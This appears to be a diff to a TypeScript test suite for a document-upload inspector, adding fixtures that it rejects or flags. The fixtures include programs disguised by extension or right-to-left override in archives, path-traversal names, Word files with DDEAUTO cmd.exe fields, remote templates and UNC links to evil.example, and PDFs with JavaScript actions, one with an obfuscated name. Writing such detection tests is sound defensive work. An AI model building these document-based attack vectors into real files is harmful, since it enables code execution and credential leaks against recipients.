@@ -146,6 +146,32 @@ describe('an inspection rejects', () => {
       () => rarOf({ name: 'a.txt', content: text, size: 2 ** 40 }),
       'a.rar',
     ],
+    ...[
+      'setup.exe',
+      'letter.pdf.JS',
+      'a.lnk',
+      'a.hta',
+      'x/a.scr. ',
+      'a.vbs',
+      'a.url',
+      'proof\u202efdp.exe',
+      'proof\u202excod.png',
+    ].map(
+      (name): RejectedCase => [
+        `${JSON.stringify(name)} inside a zip`,
+        'program',
+        name,
+        () => zipOf({ [name]: 'MZ' }),
+      ],
+    ),
+    ['a program inside a RAR archive', 'program', 'a.exe', () => rarOf({ name: 'a.exe' }), 'a.rar'],
+    [
+      'a program inside a Word document',
+      'program',
+      'word/embeddings/a.exe',
+      () => zipOf({ ...document, 'word/embeddings/a.exe': 'MZ' }),
+      'a.docx',
+    ],
     ['a name that climbs out', 'path', null, () => zipOf({ '../../etc/passwd': 'root' })],
     ['a name that climbs out by backslashes', 'path', null, () => zipOf({ '..\\a.txt': 'a' })],
     ['a name from the root', 'path', null, () => zipOf({ '/etc/passwd': 'root' })],
@@ -162,10 +188,48 @@ describe('an inspection rejects', () => {
   });
 });
 
+type MarkCase = [string, readonly string[], () => Buffer | Promise<Buffer>, name?: string];
+
+const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
+  `<Relationships><Relationship Id="r1" Type="${RELATION}/${type}" Target="${target}" ${mode}/></Relationships>`;
+const withFields = (xml: string) => ({ 'word/document.xml': `<w:document>${xml}</w:document>` });
+const activeParts: Record<string, Record<string, string>> = {
+  'a template elsewhere': {
+    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/a.dotm'),
+  },
+  'a picture on another machine': {
+    'word/_rels/document.xml.rels': relation('image', 'file:///\\\\evil.example\\a.png'),
+  },
+  'another format inside (altChunk)': {
+    'word/_rels/document.xml.rels': relation('aFChunk', 'a.mht', ''),
+  },
+  'an embedded object': { 'word/embeddings/oleObject1.bin': 'OLE' },
+  'a control': { 'word/activeX/activeX1.bin': 'OLE' },
+  'a field that runs a command': withFields('<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>'),
+  'such a field in several runs': withFields(
+    '<w:instrText>D</w:instrText><w:instrText xml:space="preserve">DE</w:instrText><w:instrText> cmd</w:instrText>',
+  ),
+  'a field that loads a picture': withFields(
+    '<w:instrText>INCLUDEPICTURE "\\\\evil\\a"</w:instrText>',
+  ),
+};
+/** UTF-16, as the binary format stores text. */
+const wide = (typed: string, length: number) => {
+  const buffer = Buffer.alloc(length);
+  buffer.write(typed, 1024, 'utf16le');
+  return buffer;
+};
+const withText = (typed: string) => {
+  const streams = wordStreams();
+  streams['/WordDocument']?.write(typed, 2048, 'utf16le');
+  return streams;
+};
+
 const locked = () => compoundFile({ '/EncryptedPackage': Buffer.alloc(64) });
 
 describe('an inspection marks', () => {
-  it.each<[string, readonly string[], () => Buffer | Promise<Buffer>, name?: string]>([
+  it.each<MarkCase>([
     ['a Word document with a password', ['password'], locked, 'a.docx'],
     [
       'a workbook with a password inside a zip',
@@ -185,6 +249,90 @@ describe('an inspection marks', () => {
       async () =>
         zipOf({ 'a.docx': await zipOf(document), '__MACOSX/._a.doc': 'Mac', 'x/~$a.doc': 'me' }),
       'a.zip',
+    ],
+    ...Object.entries(activeParts).map(
+      ([about, parts]): MarkCase => [
+        `a Word document with ${about}`,
+        ['script'],
+        () => zipOf({ ...document, ...parts }),
+        'a.docx',
+      ],
+    ),
+    [
+      'an old Word document with an embedded object',
+      ['script'],
+      () => compoundFile({ ...wordStreams(), '/ObjectPool/_1/\u0001Ole10Native': text }),
+      'a.doc',
+    ],
+    [
+      'an old Word document with a field that runs a command',
+      ['script'],
+      () =>
+        compoundFile(withText('\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014')),
+      'a.doc',
+    ],
+    [
+      'an old Word document with a template elsewhere',
+      ['script'],
+      () =>
+        compoundFile({ ...wordStreams(), '/1Table': wide('https://evil.example/a.dotm', 4096) }),
+      'a.doc',
+    ],
+    ['a page inside a zip', ['script'], () => zipOf({ 'a.html': '<html><script>' }), 'a.zip'],
+    [
+      'a drawing with a script inside a zip',
+      ['script'],
+      () => zipOf({ 'a.svg': '<svg>' }),
+      'a.zip',
+    ],
+    [
+      'RTF with an object inside a zip',
+      ['script'],
+      () => zipOf({ 'a.rtf': '{\\rtf1 {\\object\\objdata 01}}' }),
+      'a.zip',
+    ],
+    [
+      'a workbook with a DDE link inside a zip',
+      ['script'],
+      async () =>
+        zipOf({
+          'a.xlsx': await zipOf({
+            'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>',
+          }),
+        }),
+      'a.zip',
+    ],
+    [
+      'a PDF with a script that opens its page',
+      ['script'],
+      () =>
+        pdfOf(
+          '/Pages 10 0 R',
+          '<< /Type /Pages /Kids [11 0 R] /Count 1 >>',
+          `<< /Type /Page /Parent 10 0 R /MediaBox [0 0 9 9] /AA << /O ${SCRIPT} >> >>`,
+        ),
+    ],
+    [
+      'a PDF with a script in a field of a page',
+      ['script'],
+      () =>
+        pdfOf(
+          '/Pages 10 0 R',
+          '<< /Type /Pages /Kids [11 0 R] /Count 1 >>',
+          '<< /Type /Page /Parent 10 0 R /MediaBox [0 0 9 9] /Annots [12 0 R] >>',
+          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /AA << /U ${SCRIPT} >> >>`,
+        ),
+    ],
+    [
+      'a PDF with a script behind a link, its name by numbers',
+      ['script'],
+      () =>
+        pdfOf(
+          '/Pages 10 0 R',
+          '<< /Type /Pages /Kids [11 0 R] /Count 1 >>',
+          '<< /Type /Page /Parent 10 0 R /MediaBox [0 0 9 9] /Annots [12 0 R] >>',
+          '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /#4aavaScript /JS (app.alert\\(1\\)) >> >>',
+        ),
     ],
     ['an empty document inside a zip', [], () => zipOf({ 'a.doc': '' }), 'a.zip'],
     ['a PDF that opens with a script', ['script'], () => pdfOf('/OpenAction 10 0 R', SCRIPT)],
@@ -293,6 +441,17 @@ describe('an inspection accepts without a mark', () => {
   it.each<[string, () => Buffer | Promise<Buffer>, string]>([
     ['a PDF', () => pdfOf(), 'a.pdf'],
     ['a Word document', () => zipOf(document), 'a.docx'],
+    [
+      'a Word document with links and a chart',
+      () =>
+        zipOf({
+          ...document,
+          'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.eu'),
+          'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'PK',
+          'word/footer1.xml': '<w:instrText> PAGE </w:instrText>',
+        }),
+      'a.docx',
+    ],
     ['an old Word document', () => compoundFile(wordStreams()), 'a.doc'],
     ['a zip of pictures', () => zipOf({ 'a.png': text, 'folder/b..png': text }), 'a.zip'],
     ['a zip of text that packs well', () => zipOf({ 'a.txt': zeros(19) }), 'a.zip'],
